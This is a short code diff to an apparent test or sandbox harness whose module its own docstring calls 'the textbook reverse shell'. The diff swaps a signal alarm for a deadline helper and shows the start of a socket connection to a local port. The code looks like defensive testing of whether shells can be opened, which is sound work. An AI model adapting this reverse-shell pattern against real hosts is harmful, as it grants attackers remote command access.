@@ -4,14 +4,13 @@ Means: the textbook reverse shell. Connect, make the socket the standard streams
 """
 
 import os
-import signal
 import socket
 
-from attack import attempting, denied
+from attack import attempting, deadline, denied
 
 
 def run(brief):
-    signal.alarm(4)  # survives execve: the shell ends with it
+    deadline(4)  # survives execve: the shell ends with it
     attempting()
     try:
         attacker = socket.create_connection(("127.0.0.1", brief.shell), timeout=3)
